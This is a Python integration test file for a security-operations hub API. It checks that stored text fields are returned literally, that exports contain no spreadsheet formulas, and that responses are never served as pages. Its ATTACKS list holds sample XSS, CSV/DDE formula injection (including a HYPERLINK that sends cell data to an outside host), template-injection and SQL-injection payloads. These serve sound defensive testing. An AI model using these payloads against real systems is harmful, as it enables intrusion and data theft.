"""Scripts, formulas and tricks in every text that the API takes: they come back as the text that they are.

`FREE` are the names of fields that hold what somebody wrote, `IDS` those that hold the name of a thing, which
the hub compares and never shows as text of its own. A field of the description that is in neither fails; so
does an operation with a free text that no story below tries. How a page shows them: tests/e2e/test_desk.py.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from datetime import timedelta
from typing import Any, Final

import httpx2
import pytest
import python_calamine
from psycopg import sql

from hub.clock import utc_now
from hub.domain.permission import Grant, Role
from hub.store.database import connect
from tests.conftest import RunningPostgres, new_name, run_sql
from tests.integration.test_matrix import ROUTES
from tests.raising import raise_alarm
from tests.running_api import SITE, RunningApi, prepare_site, run_api_here
from tests.unit.test_permission import DESCRIPTION

AT: Final = "/api/v1/sites/demo"
ATTACKS: Final = (
    "<script>document.title='taken'</script>",
    '"><img src=x onerror="document.title=\'taken\'">',
    '=HYPERLINK("https://example.org?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*{{7*7}}${7*7}",
    "-1'; DROP TABLE person; --",
)
FORMULA: Final = ("=", "+", "-", "@", "\t", "\r")


def words_of(text: str) -> frozenset[str]:
    return frozenset(text.split())


FREE: Final = words_of(
    """
        display_name station words reason cause title interim_measure zh en notes note value number area
        address parameters name
    """
)
IDS: Final = words_of(
    """
        token code kind zone site person device assignee owner_post plan edge edge_nonce nonce invite
        request permissions sites account posts post substitute control_posts guard_posts duty digest holder
        parent key_location family profile connection writes after
        subject
    """
)
NOT_KEPT: Final = {
    ("addPasskey", "name"): "needs a browser's key; it is shown where `makeToken`'s name is",
    ("enrolEdge", "request"): "a certificate's request, read by its own parser",
    ("logIn", "name"): "a log-in name is compared; `inviteAccount` says which characters one may have",
    ("setUp", "name"): "the same",
    ("inviteAccount", "name"): "the same",
    ("inviteAccount", "area"): "compared with the sites' areas; `moveSite` writes them",
    ("giveGrant", "area"): "the same",
    ("withdrawGrant", "area"): "the same",
    ("setUp", "display_name"): "done once; `inviteAccount` takes the same",
    ("setUp", "station"): "done once; `logIn` takes the same",
    ("giveCard", "number"): "kept as a keyed hash alone",
    ("reportScreen", "station"): "the name of a sign of life; `logIn` shows what it is called",
    ("requestCommand", "address"): "compared with the device's addresses",
    ("placeOnFloorplan", "address"): "compared with the device's addresses",
    ("requestCommand", "parameters"): "checked against the command's own",
    ("addDevice", "address"): "what the driver calls the device; goes to the edge",
    ("addDevice", "parameters"): "the same",
    ("changeDevice", "address"): "the same",
    ("changeDevice", "parameters"): "the same",
}
"""Free texts that no screen shows, or that another story shows: with the reason."""


def texts_of(schema: dict[str, Any], name: str = "") -> Iterator[str]:
    """The names of the text fields of a body; a text with few values, a date or a pattern is none."""
    while "$ref" in schema:
        schema = DESCRIPTION["components"]["schemas"][schema["$ref"].rpartition("/")[2]]
    for part in (*schema.get("anyOf", ()), *schema.get("oneOf", ())):
        yield from texts_of(part, name)
    bounded = schema.keys() & {"enum", "const", "pattern", "format"}
    if schema.get("type") == "string" and not bounded and name:
        yield name
    yield from texts_of(schema["items"], name) if "items" in schema else ()
    more = schema.get("additionalProperties")
    yield from texts_of(more, name) if isinstance(more, dict) else ()
    for key, part in schema.get("properties", {}).items():
        yield from texts_of(part, key)


def free_texts() -> set[tuple[str, str]]:
    """(operation, field) of every free text in the description."""
    found = set()
    for route in ROUTES:
        body = DESCRIPTION["paths"][route.path][route.method.lower()].get("requestBody", {})
        schema = body.get("content", {}).get("application/json", {}).get("schema", {})
        for name in texts_of(schema):
            assert name in FREE | IDS, (
                f"{route.operation}: is {name} a text that people read (FREE) or the name of a thing (IDS)?"
            )
            found |= {(route.operation, name)} if name in FREE else set()
    return found


class Scene:
    """Somebody who may do everything, and what he wrote with each act."""

    def __init__(self, api: RunningApi, client: httpx2.Client, attack: str, number: int) -> None:
        self.api, self.client, self.attack, self.number = api, client, attack, number
        self.written: dict[tuple[str, str], str] = {}
        self.operation = ""

    def text(self, name: str) -> str:
        """The attack, with a mark by which this very text is found again."""
        text = f"{self.attack}⁣{self.operation}.{name}.{self.number}"
        self.written[(self.operation, name)] = text
        return text

    def do(self, path: str, **body: Any) -> Any:
        answer = self.client.post(path if path.startswith("/api") else f"{AT}{path}", json=body)
        assert answer.status_code < 300, f"{self.operation}: {answer.status_code} {answer.text}"
        return answer.json() if answer.content else None

    def alarm(self) -> int:
        with connect(self.api.settings.database, application="test") as connection:
            return raise_alarm(connection, device=f"d-{self.operation}-{self.number}", zone=None)

    def hazard(self) -> int:
        made = self.do("/hazards", title=f"{self.operation} {self.number}", zone="hall")
        return int(made["hazard"]["hazard"])

    def version(self) -> int:
        return int(self.client.get(f"{AT}/places").json()["version"])


def act_on_hazard(scene: Scene) -> None:
    number = scene.hazard()
    scene.do(f"/hazards/{number}/confirm", reason=scene.text("reason"))
    measure = {"interim_measure": scene.text("interim_measure"), "owner_post": "security-room", "reason": "x"}
    scene.do(f"/hazards/{number}/measure", **measure)


def act_on_incident(scene: Scene) -> None:
    begun = scene.do("/incidents", plan="fire", zone="lab", exercise=True)["incident"]["incident"]
    scene.do(f"/incidents/{begun}/dismiss", reason=scene.text("reason"))


def start_incident(scene: Scene) -> None:
    made = scene.do("/incidents", plan="gas", zone="hall", exercise=True, reason=scene.text("reason"))
    scene.do(f"/incidents/{made['incident']['incident']}/dismiss", reason="x")


def save_person(scene: Scene) -> None:
    person = {
        "name": scene.text("name"),
        "posts": ["security-room"],
        "qualifications": [{"kind": "guard_licence", "number": scene.text("number")}],
        "contacts": [{"kind": "mobile", "value": scene.text("value")}],
    }
    scene.do(f"/people/p-{scene.number}", **person)


def sign_handover(scene: Scene) -> None:
    signed = scene.do("/handovers", post="security-room", note=scene.text("note"))
    scene.do(f"/handovers/{signed['handover']}/withdraw", reason="x")


def names(scene: Scene) -> dict[str, str]:
    return {"zh": scene.text("zh"), "en": scene.text("en")}


def device(scene: Scene, name: str) -> dict[str, Any]:
    base = {key: value for key, value in SITE["devices"][0].items() if key != "name"}
    return {**base, "device": name, "name": names(scene), "notes": scene.text("notes"), "profile": "any"}


def mode(kind: str, verb: str) -> Callable[[Scene], object]:
    """Set a mode, extend it, end it; the text goes with one of the three."""
    soon = (utc_now() + timedelta(hours=2)).isoformat()
    given: dict[str, dict[str, str]] = {
        "armed": {"zone": "lab"},
        "test": {"subject_kind": "zone", "subject": "lab", "expires_at": soon},
        "exam": {"expires_at": soon},
        "threat_level": {"level": "blue"},
    }

    def play(scene: Scene) -> None:
        def reason(of: str) -> str:
            return scene.text("reason") if of == verb else "x"

        made = scene.do(f"/modes/{kind}", reason=reason("set"), **given[kind])["mode"]["mode"]
        scene.do(f"/modes/{kind}/{made}/extend", reason=reason("extend"), expires_at=soon)
        scene.do(f"/modes/{kind}/{made}/end", reason=reason("end"))

    return play


STORIES: Final[dict[str, Callable[[Scene], object]]] = {
    "logIn": lambda s: s.do(
        "/api/v1/session", name="admin", password="a long enough sentence", station=s.text("station")
    ),
    "inviteAccount": lambda s: s.do(
        "/api/v1/accounts",
        name=f"invited-{s.number}",
        display_name=s.text("display_name"),
        grants=[{"role": "guard", "site": "demo"}],
    ),
    "makeToken": lambda s: s.do(
        "/api/v1/tokens", name=s.text("name"), permissions=["alarm.read"], sites=["demo"], days=2
    ),
    "invitePhone": lambda s: s.do("/phones", account="a-guard", name=s.text("name")),
    "raiseAlarm": lambda s: s.do("/alarms", zone="hall", kind="fire.alarm", words=s.text("words")),
    "noteAlarm": lambda s: s.do(f"/alarms/{s.alarm()}/note", words=s.text("words")),
    "verifyAlarm": lambda s: s.do(
        f"/alarms/{s.alarm()}/verify", verification="false", cause=s.text("cause"), reason=s.text("reason")
    ),
    "reportHazard": lambda s: s.do(
        "/hazards", title=s.text("title"), zone="hall", grade="major", reason=s.text("reason")
    ),
    "actOnHazard": act_on_hazard,
    "startIncident": start_incident,
    "actOnIncident": act_on_incident,
    "requestCommand": lambda s: s.do(
        "/commands", device="door", address="1", kind="door.release", reason=s.text("reason")
    ),
    "armArea": mode("armed", "set"),
    "extendArmed": mode("armed", "extend"),
    "endArmed": mode("armed", "end"),
    "setTestMode": mode("test", "set"),
    "extendTestMode": mode("test", "extend"),
    "endTestMode": mode("test", "end"),
    "setExamMode": mode("exam", "set"),
    "extendExamMode": mode("exam", "extend"),
    "endExamMode": mode("exam", "end"),
    "setThreatLevel": mode("threat_level", "set"),
    "extendThreatLevel": mode("threat_level", "extend"),
    "endThreatLevel": mode("threat_level", "end"),
    "savePerson": save_person,
    "saveCommittee": lambda s: s.do(f"/committees/c-{s.number}", name=names(s), members=[]),
    "signHandover": sign_handover,
    "addZone": lambda s: s.do(
        "/places/zones",
        version=s.version(),
        reason=s.text("reason"),
        zone={"zone": f"z-{s.number}", "name": names(s), "kind": "outdoor"},
    ),
    "addDevice": lambda s: s.do(
        "/places/devices",
        version=s.version(),
        reason=s.text("reason"),
        device=device(s, f"device-{s.number}"),
    ),
    "moveSite": lambda s: s.do(
        "/places/area", version=s.version(), reason=s.text("reason"), area=[s.text("area"), "x"]
    ),
}
SAME: Final = {"changeZone": "addZone", "changeDevice": "addDevice"}
"""Operations that take the same texts into the same places as another."""


def test_every_free_text_of_the_description_has_a_story() -> None:
    # A reason always goes the same way, into the journal: some of them stand for all.
    missing = {
        f"{operation}: {name}"
        for operation, name in free_texts()
        if name != "reason"
        and (operation, name) not in NOT_KEPT
        and SAME.get(operation, operation) not in STORIES
    }
    assert missing == set(), "tell in tests/integration/test_stored_script.py where these are shown"


@pytest.fixture(scope="module")
def told(
    postgres: RunningPostgres, template: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[RunningApi, Any, Any]]:
    """The API after every story was told with every attack: itself, a client, and what was written."""
    name = new_name()
    copy = sql.SQL("CREATE DATABASE {} TEMPLATE {}").format(sql.Identifier(name), sql.Identifier(template))
    run_sql(postgres.dsn(), copy)
    prepare_site(postgres.dsn(name))
    folder = tmp_path_factory.mktemp("script")
    (folder / "any.yaml").write_text("profile: any\n", encoding="utf-8")
    with run_api_here(postgres.dsn(name), folder) as api:
        client = api.prove(api.administrator())
        api.colleague("guard", Grant(Role.GUARD, "demo"))
        written: dict[tuple[str, str], list[str]] = {}
        operations = {route.operation for route in ROUTES}
        for number, attack in enumerate(ATTACKS):
            scene = Scene(api, client, attack, number)
            for operation, story in STORIES.items():
                if operation in operations:
                    scene.operation = operation
                    story(scene)
                    if operation == "logIn":
                        api.prove(client)
            for key, text in scene.written.items():
                written.setdefault(key, []).append(text)
        yield api, client, written
    run_sql(postgres.dsn(), sql.SQL("DROP DATABASE {} WITH (FORCE)").format(sql.Identifier(name)))


def strings_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, each in value.items():
            yield key
            yield from strings_in(each)
    elif isinstance(value, list):
        for each in value:
            yield from strings_in(each)


def test_what_was_written_is_read_as_it_was_written_and_never_as_a_page(told: Any) -> None:
    _, client, written = told
    seen: set[str] = set()
    for route in ROUTES:
        if route.method != "GET" or "{" in route.path.replace("{site}", "") or "live" in route.path:
            continue
        answer = client.get(route.at("demo"), params={"limit": 500} if "Journal" in route.operation else None)
        form = answer.headers.get("content-type", "").partition(";")[0]
        assert answer.headers["x-content-type-options"] == "nosniff", route.operation
        assert "default-src 'self'" in answer.headers["content-security-policy"], route.operation
        assert form != "text/html", route.operation
        if form == "application/json":
            seen |= set(strings_in(answer.json()))
    for number in range(1, 3 * len(ATTACKS)):
        seen |= set(strings_in(client.get(f"{AT}/alarms/{number}").json()))
    written[("moveSite", "area")] = written[("moveSite", "area")][-1:]  # a school is in one area
    lost = {key for key, texts in written.items() for text in texts if text not in seen}
    assert lost == set()
    assert len(written) > 20


def test_a_spreadsheet_computes_nothing_of_it(told: Any) -> None:
    _, client, written = told
    marked = 0
    for route in ROUTES:
        if not route.path.endswith((".csv", "{form}")) or route.method != "GET":
            continue
        for form in ("csv",) if route.path.endswith(".csv") else ("csv", "xlsx"):
            answer = client.get(route.at("demo", form).replace("{form}", form))
            if answer.status_code == 404 or answer.status_code == 422:
                continue
            assert answer.status_code == 200, (route.operation, answer.text)
            assert "attachment" in answer.headers["content-disposition"], route.operation
            if form == "csv":
                cells = [
                    cell
                    for row in csv.reader(io.StringIO(answer.text.lstrip("\ufeff"), newline=""))
                    for cell in row
                ]
                marked += sum("⁣" in cell for cell in cells)
                assert [cell for cell in cells if "⁣" in cell and cell.startswith(FORMULA)] == []
            else:
                with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
                    for name in archive.namelist():
                        if name.startswith("xl/worksheets/"):
                            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    assert marked >= len(ATTACKS)
    book = python_calamine.CalamineWorkbook.from_filelike(
        io.BytesIO(client.get(f"{AT}/bulk/site.xlsx", params={"contacts": True}).content)
    )
    cells = {
        str(cell)
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
    }
    assert set(written[("savePerson", "name")]) <= cells


def test_a_line_of_the_journals_file_is_one_line_whatever_is_in_it(told: Any) -> None:
    _, client, written = told
    lines = client.get(f"{AT}/export/journal.jsonl").text.splitlines()
    words = {text for line in lines for text in strings_in(json.loads(line))}
    assert set(written[("noteAlarm", "words")]) <= words
